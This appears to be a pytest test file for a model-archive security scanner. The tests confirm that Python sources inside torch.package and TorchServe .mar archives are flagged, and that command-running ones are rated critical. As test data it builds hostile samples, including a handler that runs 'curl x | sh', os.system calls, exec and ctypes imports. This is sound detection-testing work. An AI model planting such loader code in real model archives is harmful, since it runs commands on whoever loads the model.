"""Python sources that archives carry for their loaders to import: torch.package modules (made by
torch.package.PackageExporter itself) and TorchServe handlers (.mar). Their code runs by design
when the model is loaded, so they are never clean; a source that runs commands is critical."""
from __future__ import annotations

import json
import sys
import zipfile

import pytest
import torch

from tensorscope.scanning import Severity, scan_paths


def _package(tmp_path, source: str):
    """A real torch.package archive (PackageExporter, a benign interned module ``tsmod``) whose
    module source is then replaced by ``source`` in the zip, as an attacker edits one: the
    payload is never imported here."""
    src = tmp_path / "src"
    src.mkdir()
    (src / "tsmod.py").write_text(_NET)
    sys.path.insert(0, str(src))
    try:
        import tsmod
        from torch.package import PackageExporter
        made = tmp_path / "made.pt"
        with PackageExporter(str(made)) as e:
            e.intern("tsmod")
            e.extern("torch.**")
            e.save_pickle("model", "model.pkl", tsmod.Net())
    finally:
        sys.path.remove(str(src))
        sys.modules.pop("tsmod", None)
    path = tmp_path / "pkg.pt"
    with zipfile.ZipFile(made) as zin, zipfile.ZipFile(path, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename.endswith("/tsmod.py"):
                data = (source + _NET).encode()
            zout.writestr(item, data)
    return path


_NET = ("import torch\n"
        "class Net(torch.nn.Module):\n"
        "    def __init__(self):\n"
        "        super().__init__()\n"
        "        self.l = torch.nn.Linear(2, 2)\n")


def _found(path):
    report = scan_paths(path)
    return [(f.rule, f.severity, f.trigger) for f in report.findings
            if f.rule == "archive.python-source"], report


def test_torch_package_modules_are_never_clean(tmp_path):
    found, report = _found(_package(tmp_path, "SCALE = 2\n"))
    assert [(r, s) for r, s, _ in found] == [("archive.python-source", Severity.MEDIUM)]
    assert report.exit_code() == 1


@pytest.mark.parametrize("source,trigger", [
    ("import os\nos.system('id')\n", "os.system"),
    ("import subprocess\n", "subprocess"),
    ("eval(compile('1', 'x', 'eval'))\n", "eval"),
    ("import shutil\nshutil.rmtree('/nonexistent/x')\n", "shutil.rmtree"),
])
def test_a_package_module_that_runs_commands_is_critical(tmp_path, source, trigger):
    found, report = _found(_package(tmp_path, source))
    assert ("archive.python-source", Severity.CRITICAL, trigger) in found
    assert report.severity == Severity.CRITICAL


def test_torchserve_handler_is_judged(tmp_path):
    torch.save({"w": torch.zeros(2)}, tmp_path / "w.pt")
    path = tmp_path / "model.mar"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("MAR-INF/MANIFEST.json", json.dumps({"runtime": "python", "model": {
            "modelName": "m", "serializedFile": "w.pt", "handler": "handler.py"}}))
        z.writestr("handler.py", "from ts.torch_handler.base_handler import BaseHandler\n"
                                 "import subprocess as sp\n"
                                 "class H(BaseHandler):\n"
                                 "    def initialize(self, ctx):\n"
                                 "        sp.run(['sh', '-c', 'curl x | sh'])\n")
        z.write(tmp_path / "w.pt", "w.pt")
    found, report = _found(path)
    assert ("archive.python-source", Severity.CRITICAL, "subprocess") in found
    assert report.severity == Severity.CRITICAL


def test_an_ordinary_handler_is_medium_not_critical(tmp_path):
    """What TorchServe's own handlers do (paths, files, torch.load of the model, JSON labels) is
    their job: the archive is never clean (medium), but not critical."""
    path = tmp_path / "plain.mar"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("handler.py", "import os\nimport json\nimport torch\n"
                                 "from ts.torch_handler.base_handler import BaseHandler\n"
                                 "class H(BaseHandler):\n"
                                 "    def initialize(self, ctx):\n"
                                 "        d = ctx.system_properties.get('model_dir')\n"
                                 "        self.model = torch.load(os.path.join(d, 'w.pt'))\n"
                                 "        with open(os.path.join(d, 'index.json')) as f:\n"
                                 "            self.labels = json.load(f)\n")
    found, report = _found(path)
    assert [(r, s) for r, s, _ in found] == [("archive.python-source", Severity.MEDIUM)]
    assert report.severity == Severity.MEDIUM


@pytest.mark.parametrize("line,trigger", [("from os import system as s\ns('id')\n", "os.system"),
                                          ("import ctypes\n", "ctypes"),
                                          ("exec(open('x').read())\n", "exec")])
def test_handler_payloads(tmp_path, line, trigger):
    path = tmp_path / "evil.mar"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("handler.py", line)
    found, _ = _found(path)
    assert ("archive.python-source", Severity.CRITICAL, trigger) in found


def test_source_that_does_not_tokenize_is_not_clean(tmp_path):
    path = tmp_path / "bad.mar"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("handler.py", "def f(:\n    '''unterminated")
    found, _ = _found(path)
    assert any(s == Severity.CRITICAL for _, s, _ in found)


def _code_files():
    """The code/ files of the TorchScript fixtures and the Python sources of the HF fixtures."""
    import glob
    import os
    root = os.path.join(os.path.dirname(__file__), "..", "fixtures")
    texts = []
    for path in sorted(glob.glob(os.path.join(root, "**", "*"), recursive=True)):
        if path.endswith(".py") and "hf_repo" in path:
            texts.append(open(path).read())
        elif os.path.isfile(path) and zipfile.is_zipfile(path):
            with zipfile.ZipFile(path) as z:
                texts += [z.read(n).decode("utf-8", "replace") for n in z.namelist()
                          if "/code/" in n and n.endswith(".py")]
    return texts


def test_the_token_window_changes_nothing(monkeypatch):
    """Tokens are read through a bounded window (a code file of any size costs bounded memory);
    a window of 64 tokens (longer than any statement here) finds exactly what one holding the
    whole file finds."""
    from tensorscope.scanning import torchscript
    texts = _code_files()
    assert len(texts) >= 8
    whole = [torchscript._code_calls_and_bindings(list(torchscript._code_tokens(t)))
             for t in texts]
    monkeypatch.setattr(torchscript, "_WINDOW", 64)
    assert [torchscript._code_calls_and_bindings(torchscript._code_tokens(t))
            for t in texts] == whole
    assert any(calls for calls, _, _ in whole)


def test_code_past_the_limits_is_reported_unread(tmp_path, monkeypatch):
    from tensorscope.scanning import context, torchscript

    class M(torch.nn.Module):
        def forward(self, x):
            return torch.relu(x) * 2 + x.sum()
    path = tmp_path / "ts.pt"
    torch.jit.save(torch.jit.script(M()), str(path))
    assert not [f for f in scan_paths(path).findings if f.severity > Severity.INFO]
    monkeypatch.setattr(torchscript, "MAX_CODE_CHARS", 40)
    hits = [f for f in scan_paths(path).findings if f.rule == "torchscript.code-unparseable"]
    assert hits and "only the first 40 are read" in hits[0].message
    monkeypatch.setattr(torchscript, "MAX_CODE_CHARS", 8 << 20)
    monkeypatch.setattr(context, "CODE_CHARS_PER_FILE", 10)
    hits = [f for f in scan_paths(path).findings if f.rule == "torchscript.code-unparseable"]
    assert hits and "are spent" in hits[0].message and hits[0].severity == Severity.HIGH
